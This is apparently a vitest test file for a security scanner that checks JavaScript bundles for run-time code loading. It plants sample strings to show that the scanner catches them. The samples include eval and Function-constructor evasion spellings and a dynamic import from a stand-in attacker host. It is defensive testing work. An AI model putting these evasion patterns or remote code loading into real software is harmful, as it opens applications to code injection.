import { execFileSync } from 'node:child_process'
import { mkdtempSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { expect, test } from 'vitest'
// @ts-expect-error: a plain ES module script without types
import { RULES, scan } from '../../../scripts/scan-bundle.mjs'

type Finding = { rule: string; found: number; allowed: number }
const findings = (code: string) => (scan(code) as Finding[]).map((f) => f.rule)

/** Minified-looking code that does nothing dangerous (it must pass). */
const CLEAN = [
  'var e=Function.prototype.apply.call(a,b,c);',
  'throw TypeError(`The "listener" argument must be of type Function. Received`);',
  'class A extends B{constructor(e){super(e)}};let evaluate=1,medieval=2,x={evalue:3};',
  'new this.constructor(e);e.workers=[];const Workerish=1;',
  // Timers with functions in every shape a minifier writes.
  'setTimeout(e,0);setTimeout(()=>n(),1);setInterval(async()=>{await r()},5);',
  'setTimeout(function(){t()},0);setTimeout(s.bind(null,1),2);setTimeout(a.b,0);',
  'setTimeout((e,t)=>e+t);setTimeout(({a:e})=>e,0);setTimeout(r=>r(1),0);',
  // Elements of written-out tags; a constructor's name read, not called.
  'document.createElement(`div`);d.createElementNS("http://www.w3.org/2000/svg","svg");',
  'e.constructor.name===`Uint8Array`;x.constructor===Object;',
].join('')

/**
 * SECURITY.md row 2, proven on planted samples: every way to build or load code at run time that
 * a bundler's output could carry, in the spellings a minifier or an attacker produces.
 */
const PLANTED: [string, string, string][] = [
  ['direct eval', 'eval("alert(1)")', 'eval'],
  ['globalThis.eval', 'globalThis.eval(e)', 'eval'],
  ['indirect (0, eval)', '(0,eval)(e)', 'eval'],
  ['eval by computed name', 'window["eval"](e)', 'eval'],
  ['eval kept in a variable', 'const t=self.eval;t(e)', 'eval'],
  ['new Function', 'new Function("return 1")', 'Function constructor'],
  ['Function called', 'Function(e)()', 'Function constructor'],
  ['Function through Reflect', 'Reflect.construct(Function,[e])()', 'Function constructor'],
  ['Function through Reflect.apply', 'Reflect.apply(Function,null,[e])', 'Function constructor'],
  ['Function in a variable', 'const F=Function;new F(e)', 'Function constructor'],
  ['Function.prototype.constructor', 'Function.prototype.constructor(e)', 'Function constructor'],
  [
    'constructor of a constructor',
    '(()=>{}).constructor.constructor(e)()',
    'Function through .constructor',
  ],
  ['computed constructor', 'x["constructor"]["constructor"](e)', 'Function through .constructor'],
  [
    'constructor called with code',
    'a.constructor("return this")()',
    'constructor called with code',
  ],
  [
    'async function constructor',
    'Object.getPrototypeOf(async function(){}).constructor; AsyncFunction',
    'async or generator function constructor',
  ],
  ['dynamic import()', 'import("https://evil.example/x.js")', 'dynamic import()'],
  ['importScripts', 'importScripts(e)', 'importScripts'],
  ['new Worker', 'new Worker(URL.createObjectURL(b))', 'Worker'],
  ['new SharedWorker', 'new SharedWorker(e)', 'Worker'],
  ['service worker', 'navigator.serviceWorker.register("/sw.js")', 'service worker registration'],
  ['worklet', 'CSS.paintWorklet.addModule(e)', 'worklet module'],
  ['WebAssembly', 'WebAssembly.instantiate(b)', 'WebAssembly'],
  ['document.write', 'document.write("<script src=x></script>")', 'document.write'],
  ['string timer', 'setTimeout("alert(1)",0)', 'string timer'],
  // biome-ignore lint/suspicious/noTemplateCurlyInString: the planted code is a template literal
  ['string timer, template', 'setInterval(`alert(${e})`,9)', 'string timer'],
  ['string timer, concatenation', 'setTimeout(e+"()",0)', 'string timer'],
  ['string timer, a call that makes text', 'setTimeout(String(e),0)', 'string timer'],
  ['string timer, a joined list', 'setTimeout(["al","ert(1)"].join(""))', 'string timer'],
  ['string timer, parenthesised', 'setTimeout(("a"+"b"),0)', 'string timer'],
  [
    'Function from an arrow',
    'const F=(()=>{}).constructor;F(e)()',
    'Function through .constructor',
  ],
  [
    'AsyncFunction from a prototype',
    'Object.getPrototypeOf(async()=>{}).constructor',
    'prototype of a function literal',
  ],
  [
    'constructor of a prototype',
    'Object.getPrototypeOf(f).constructor',
    'Function through .constructor',
  ],
  ['constructor of an element', 'x[0].constructor', 'Function through .constructor'],
  [
    'a constructor called with a variable',
    'e.constructor(t)();e.constructor(t);e.constructor(t)',
    'call through .constructor',
  ],
  [
    'contextual fragment',
    'document.createRange().createContextualFragment(e)',
    'HTML parsed into a fragment',
  ],
  ['iframe srcdoc', 'f.srcdoc=e', 'srcdoc'],
]

/** Sample that puts one more of each counted React DOM construct into a real-looking bundle. */
const REACT_ALLOWANCE = (RULES as [string, RegExp, number][]).filter(([, , n]) => n > 0)

test('default', () => {
  expect(findings(CLEAN)).toEqual([])
  expect(findings('eval("1")')).toEqual(['eval'])
})

test('behavior: every planted way to build or load code fails the scan (SECURITY 2)', () => {
  for (const [label, sample, rule] of PLANTED)
    expect(findings(`${CLEAN}${sample};${CLEAN}`), label).toContain(rule)
})

test('behavior: a script element in any spelling, one over React DOM’s count, fails the scan', () => {
  const allowed = (name: string) => REACT_ALLOWANCE.find(([rule]) => rule === name)?.[2] ?? 0
  const react = (sample: string, name: string) => sample.repeat(allowed(name))
  const base = react('document.createElement("script");', 'script element creation')
  expect(findings(base)).toEqual([])
  for (const sample of [
    'document.createElement("script")',
    "d.createElement('SCRIPT')",
    'd.createElement(`script`)',
    'd.createElementNS("http://www.w3.org/1999/xhtml","script")',
  ])
    expect(findings(`${base}${sample}`), sample).toContain('script element creation')
  expect(findings(`${react('<script>', '<script in markup')}<script src=x>`)).toContain(
    '<script in markup',
  )
})

test('behavior: an element of a tag not written out, one over React DOM’s count, fails the scan', () => {
  const rule = 'element with a non-literal tag'
  const allowed = REACT_ALLOWANCE.find(([name]) => name === rule)?.[2] ?? 0
  const base = 'o=s.createElement(a);'.repeat(allowed)
  expect(findings(base)).toEqual([])
  for (const sample of [
    'document.createElement(tag)',
    'd.createElement( e.type )',
    'd.createElementNS(ns,e.tag)',
    'd.createElementNS("http://www.w3.org/1999/xhtml",t)',
  ])
    expect(findings(`${base}${sample}`), sample).toContain(rule)
})

test('behavior: the command fails on a planted bundle and passes on a clean one', () => {
  const dir = mkdtempSync(join(tmpdir(), 'scan-'))
  const bad = join(dir, 'bad.js')
  const good = join(dir, 'good.js')
  writeFileSync(bad, `${CLEAN}Reflect.construct(Function,["alert(1)"])()`)
  writeFileSync(good, CLEAN)
  const run = (file: string) => {
    try {
      execFileSync(process.execPath, ['scripts/scan-bundle.mjs', file, '--no-source'], {
        stdio: 'pipe',
      })
      return 0
    } catch (error) {
      return (error as { status: number }).status
    }
  }
  expect(run(good)).toBe(0)
  expect(run(bad)).toBe(1)
})
